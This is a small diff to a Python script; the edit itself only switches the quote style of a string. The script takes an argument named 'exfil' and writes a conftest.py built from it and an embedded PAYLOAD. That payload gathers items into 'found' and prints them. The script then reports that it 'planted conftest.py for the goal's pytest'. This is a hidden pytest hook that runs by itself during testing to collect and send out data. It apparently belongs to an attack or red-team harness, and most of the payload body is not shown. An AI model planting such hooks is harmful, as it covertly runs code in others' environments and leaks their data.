@@ -10,7 +10,7 @@ import sys
 from pathlib import Path
 
 exfil = sys.argv[1]
-PAYLOAD = r'''
+PAYLOAD = r"""
 import json, os
 from pathlib import Path
 
@@ -40,6 +40,6 @@ try:
 except OSError:
     pass
 print("PAYLOAD " + json.dumps(found), flush=True)
-'''
+"""
 Path("conftest.py").write_text("EXFIL = " + repr(exfil) + "\n" + PAYLOAD)
 print("planted conftest.py for the goal's pytest", flush=True)
